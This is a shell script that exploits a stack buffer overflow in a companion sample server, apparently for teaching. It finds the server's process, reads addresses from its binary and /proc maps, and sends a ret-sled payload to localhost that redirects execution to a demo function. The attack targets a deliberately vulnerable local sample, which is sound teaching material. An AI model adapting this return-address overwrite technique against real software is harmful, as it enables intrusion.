#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# Exploits samples/server: hack.sh [-p PORT] [PID]
#
# The server reads up to 128 bytes into 16. What comes behind the 16 runs over
# the return address of handle_connection. It is filled with the address of a
# `ret` instruction, which only goes on to the next word, so that we need not
# know at which word the return address lies; and at the end stands the address
# of you_hacked_me. (It stands at an even word, so that the stack is aligned
# as a function may expect.) On ARM64 a return address lies below the variables
# of its function: it is the caller's that is run over, and all words are the
# address of you_hacked_me. The addresses are those of the running process:
# from its binary, and from where /proc/PID/maps says that it is loaded.

port=3345
if [ "$1" = -p ]; then
	port=$2
	shift 2
fi
pid=$1

die() {
	echo "hack.sh: $*" >&2
	exit 1
}

# The process that listens on the port: /proc/net/tcp gives the socket.
find_pid() {
	inode=$(awk -v port="$(printf ':%04X' "$port")" \
		'substr($2, length($2) - 4) == port && $4 == "0A" {
			print $10; exit }' /proc/net/tcp)
	[ "$inode" ] || return 1
	for fd in /proc/[0-9]*/fd/*; do
		if [ "$(readlink "$fd" 2>/dev/null)" = "socket:[$inode]" ]; then
			fd=${fd#/proc/}
			echo "${fd%%/*}"
			return 0
		fi
	done
	return 1
}

[ "$pid" ] || pid=$(find_pid) || die "no server listens on port $port"
exe=/proc/$pid/exe
[ -r "$exe" ] || die "cannot read $exe"

code=$(objdump -d --no-show-raw-insn "$exe") || die "cannot disassemble $exe"
address() {	# of the function $1; with $2 of that instruction in it
	printf '%s\n' "$code" | awk -v name="<$1>:" -v insn="$2" '
		$2 == name { inside = 1; at = $1; next }
		inside && NF == 0 { exit }
		inside && insn != "" && $2 ~ insn { sub(/:/, "", $1); hit = $1 }
		END { print insn == "" ? at : hit }'
}
hacked=$(address you_hacked_me)
case $(uname -m) in
aarch64) ret=$hacked ;;
*) ret=$(address handle_connection '^retq?$') ;;
esac
[ "$hacked" ] && [ "$ret" ] || die "no symbols in $exe"

# A position-independent program is loaded anywhere, another where it says.
base=0
if readelf -h "$exe" | grep -q 'Type: *DYN'; then
	file=$(readlink "$exe")
	file=${file% (deleted)}
	base=$(awk -v file="$file" '$3 ~ /^0+$/ && $6 == file {
		sub(/-.*/, "", $1); print $1; exit }' "/proc/$pid/maps")
	[ "$base" ] || die "cannot see where process $pid is loaded"
fi

word() {	# a number as eight bytes, the lowest first, for printf
	n=$(($1)) i=0
	while [ $i -lt 8 ]; do
		printf '\\%03o' $((n & 255))
		n=$((n >> 8)) i=$((i + 1))
	done
}
hacked=$(word "0x$base + 0x$hacked")
ret=$(word "0x$base + 0x$ret")
payload=0123456789ABCDEF
i=2
while [ $i -lt 14 ]; do
	payload=$payload$ret
	i=$((i + 1))
done
payload=$payload$hacked

# shellcheck disable=SC2059  # the payload is made of escapes
send() {
	if command -v nc > /dev/null; then
		{ printf "$payload"; sleep 0.3; } |
			nc -w 2 127.0.0.1 "$port" > /dev/null 2>&1
	elif command -v perl > /dev/null; then
		printf "$payload" | perl -MIO::Socket::INET -e '
			my $s = IO::Socket::INET->new("127.0.0.1:$ARGV[0]")
				or exit 1;
			local $SIG{PIPE} = "IGNORE";
			local $/; print $s <STDIN>; $s->flush; <$s>; exit 0;
		' "$port" || die "cannot send to port $port"
	elif command -v python3 > /dev/null; then
		printf "$payload" | python3 -c '
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(sys.stdin.buffer.read())
try:
    s.recv(200)
except ConnectionError:
    pass' "$port" || die "cannot send to port $port"
	elif command -v bash > /dev/null; then
		printf "$payload" | bash -c '
			exec 3<>"/dev/tcp/127.0.0.1/$0" || exit 1
			cat >&3; cat <&3' "$port" > /dev/null 2>&1
	else
		die "needs one of nc, perl, python3, bash"
	fi
}
send
exit 0
